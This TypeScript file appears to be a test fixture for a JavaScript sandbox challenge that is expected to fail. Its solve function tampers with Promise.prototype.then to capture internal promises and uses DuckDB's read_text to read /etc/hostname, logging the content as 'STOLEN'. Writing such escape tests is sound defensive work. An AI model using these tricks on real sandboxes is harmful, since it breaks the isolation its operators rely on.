// Gets the database by a changed Promise while its settings are not yet locked => solves wrong: solve threw
import { DuckDBInstance } from "@duckdb/node-api";

async function rows(...statements: string[]): Promise<unknown> {
  const connection = await (await DuckDBInstance.create(":memory:")).connect();
  let found: unknown;
  for (const sql of statements) found = (await connection.runAndReadAll(sql)).getRowsJson();
  return found;
}

export async function solve(): Promise<string> {
  const seen: unknown[] = [];
  const { then } = Promise.prototype;
  Object.defineProperty(Promise.prototype, "then", {
    configurable: true,
    value(this: Promise<unknown>, ...args: never[]) {
      seen.push(this);
      return Reflect.apply(then, this, args) as unknown;
    },
  });
  console.log(
    "STOLEN",
    JSON.stringify(await rows("select content from read_text('/etc/hostname')")),
    seen.length,
  );
  return "x";
}
